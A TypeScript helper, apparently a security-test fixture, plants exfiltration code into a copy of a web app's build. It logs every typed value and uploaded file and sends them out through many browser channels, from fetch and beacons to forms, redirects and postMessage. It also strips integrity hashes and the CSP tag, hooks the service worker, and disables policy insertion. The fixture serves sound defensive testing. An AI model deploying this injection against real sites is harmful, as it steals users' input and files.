// Leaks to plant into a build, as somebody might who wants the words: each sends what is typed, by one way out of the page.
import { cpSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";

import { NOW } from "./builds";
import type { Alter } from "./site";

/** Sends a text away. It runs in the page, and knows nothing but its arguments. */
export type Leak = (text: string, elsewhere: string) => unknown;

/** Whether the page's policies hold, or somebody has taken them out together with what refuses navigation. */
export type Seal = "on" | "taken out";

/** What leaves the page without leaving it behind. */
export const SENDING = {
  "fetch": (text, elsewhere) => fetch(elsewhere, { method: "POST", mode: "no-cors", body: text }),
  "beacon": (text, elsewhere) => navigator.sendBeacon(elsewhere, text),
  "image": (text, elsewhere) => (new Image().src = `${elsewhere}?${encodeURIComponent(text)}`),
  "socket": (text, elsewhere) =>
    new WebSocket(`${elsewhere.replace("http", "ws")}?${btoa(String.fromCharCode(...new TextEncoder().encode(text)))}`),
  "events": (text, elsewhere) =>
    new EventSource(`${elsewhere}?${[...new TextEncoder().encode(text)].map((byte) => byte.toString(16).padStart(2, "0")).join("")}`),
  "prefetch": (text, elsewhere) =>
    document.head.append(Object.assign(document.createElement("link"), { rel: "prefetch", href: `${elsewhere}?${encodeURIComponent(text)}` })),
  "script": (text, elsewhere) => document.head.append(Object.assign(document.createElement("script"), { src: `${elsewhere}?${escape(text)}` })),
  "frame": (text, elsewhere) => document.body.append(Object.assign(document.createElement("iframe"), { src: `${elsewhere}?${encodeURIComponent(text)}` })),
  "header": (text) => fetch("./", { headers: { "x-story": encodeURIComponent(text) } }),
} satisfies Record<string, Leak>;

/** What leaves it behind, or loads it anew. */
export const LEAVING = {
  "form": (text, elsewhere) => {
    const form = Object.assign(document.createElement("form"), { method: "post", action: elsewhere });
    form.append(Object.assign(document.createElement("input"), { name: "story", value: text }));
    document.body.append(form);
    form.submit();
  },
  "address": (text) => {
    history.replaceState(null, "", `?story=${encodeURIComponent(text)}`);
    location.reload();
  },
  "cookie": (text) => {
    document.cookie = `story=${encodeURIComponent(text)}`;
    location.reload();
  },
  "location": (text, elsewhere) => (location.href = `${elsewhere}?${encodeURIComponent(text)}`),
  "link": (text, elsewhere) =>
    Object.assign(document.createElement("a"), { target: "_blank", href: `${elsewhere}?${encodeURIComponent(text)}` }).click(),
  "refresh": (text, elsewhere) =>
    document.head.append(
      Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: `0; url=${elsewhere}?${encodeURIComponent(text)}` }),
    ),
  "download": (text, elsewhere) =>
    Object.assign(document.createElement("a"), { download: "", href: `${elsewhere}?${encodeURIComponent(text)}` }).click(),
  "window": (text, elsewhere) => window.open(`${elsewhere}?${encodeURIComponent(text)}`),
} satisfies Record<string, Leak>;

/** What leaves a frame for the page around it, whoever that is; in a page of its own it goes nowhere. */
export const TO_HOST = ((text) => parent.postMessage(text, "*")) satisfies Leak;

/** A build in which all that is typed, chosen or pasted goes to these leaks. `tried` in the window names those that have run. */
export function planted(leaks: Record<string, Leak>, elsewhere: string, seal: Seal): Alter {
  const each = Object.entries(leaks).map(([name, leak]) => `[${JSON.stringify(name)}, ${leak}]`);
  const spy = `(() => {
    const tried = (window.tried = new Set());
    const leaks = [${each.join(",\n")}];
    const send = (name, leak, text) => {
      tried.add(name);
      try {
        Promise.resolve(leak(text, ${JSON.stringify(elsewhere)} + name)).catch(() => {});
      } catch {} // refused: the others are tried all the same
    };
    addEventListener("input", async ({ target }) => {
      const files = await Promise.all([...(target.files ?? [])].map(async (file) => file.name + await file.text()));
      for (const [name, leak] of leaks) send(name, leak, [target.value, ...files].join("\\n"));
    }, true);
  })();`;
  return (path, body) => {
    const text = body.toString();
    if (/^boot\b.*\.js$/.test(path)) return Buffer.from(`${spy}${seal === "on" ? "" : `(${unseal})();`}${text}`);
    // The worker's list knows the true files only, and the tag may name their hashes too.
    if (path === "sw.js") return "missing";
    if (!/^(index|embed)\.html$/.test(path)) return body;
    const unnamed = text.replace(/ integrity="[^"]*"/g, "");
    return Buffer.from(seal === "on" ? unnamed : unnamed.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, ""));
  };
}

/** The same as a whole build in a folder, with names and hashes of its own and so with its worker, into which leaks are planted too. */
export async function plantedBuild(folder: string, alter: Alter, inWorker: readonly WorkerLeak[], elsewhere: string): Promise<string> {
  cpSync("dist", folder, { recursive: true });
  for (const name of readdirSync(folder).filter((name) => /^(boot.*\.js|(index|embed)\.html)$/.test(name))) {
    const altered = alter(name, readFileSync(join(folder, name)));
    if (!Buffer.isBuffer(altered)) throw new Error(`${name} is to be there`);
    writeFileSync(join(folder, name), altered);
  }
  const { publish } = await import("../../xtask/site.mjs");
  await publish(folder, `# Changelog\n\n## ${NOW}\n\n- A leak.\n`);
  plantInWorker(folder, inWorker, elsewhere);
  return folder;
}

/** Sends what reaches the worker away. It runs there, and knows nothing but its arguments. */
export type WorkerLeak = (request: Request, elsewhere: string) => unknown;

/** What a worker could betray: what it is asked for, and what another app shares. */
export const FROM_WORKER = {
  "asked": (request, elsewhere) => fetch(`${elsewhere}?${encodeURIComponent(request.url)}`, { mode: "no-cors" }),
  "shared": async (request, elsewhere) => {
    if (request.method !== "POST") return;
    const fields = [...(await request.formData()).values()];
    const texts = await Promise.all(fields.map((field) => (typeof field === "string" ? field : field.text())));
    await fetch(elsewhere, { method: "POST", mode: "no-cors", body: texts.join("\n") });
  },
} satisfies Record<string, WorkerLeak>;

/** Puts leaks before the worker of the build in a folder. The list of its files does not name itself. */
export function plantInWorker(folder: string, leaks: readonly WorkerLeak[], elsewhere: string) {
  if (leaks.length === 0) return;
  const script = join(folder, "sw.js");
  const each = leaks.map((leak) => `(${leak})(event.request.clone(), ${JSON.stringify(`${elsewhere}worker`)})`);
  const spy = `addEventListener("fetch", (event) => event.waitUntil(Promise.allSettled([${each.join(", ")}])));`;
  writeFileSync(script, `${spy}\n${readFileSync(script, "utf8")}`);
}

/**
 * Takes the power from every tag with a policy and from whatever listens to navigation, and lets nothing be taken off the window.
 * It runs in the page, before the app.
 */
function unseal() {
  const harmless = (node: unknown) => !(node instanceof HTMLMetaElement && /^content-security-policy$/i.test(node.httpEquiv));
  const { appendChild, insertBefore } = Node.prototype;
  const { append, prepend } = Element.prototype;
  Object.assign(Node.prototype, {
    appendChild(this: Node, node: Node) {
      return harmless(node) ? appendChild.call(this, node) : node;
    },
    insertBefore(this: Node, node: Node, before: Node | null) {
      return harmless(node) ? insertBefore.call(this, node, before) : node;
    },
  });
  Object.assign(Element.prototype, {
    append(this: Element, ...nodes: (Node | string)[]) {
      append.apply(this, nodes.filter(harmless));
    },
    prepend(this: Element, ...nodes: (Node | string)[]) {
      prepend.apply(this, nodes.filter(harmless));
    },
  });
  Object.defineProperty(window, "open", { value: window.open, configurable: false });
  if ("navigation" in window) Object.assign(window.navigation as object, { addEventListener() {} });
}
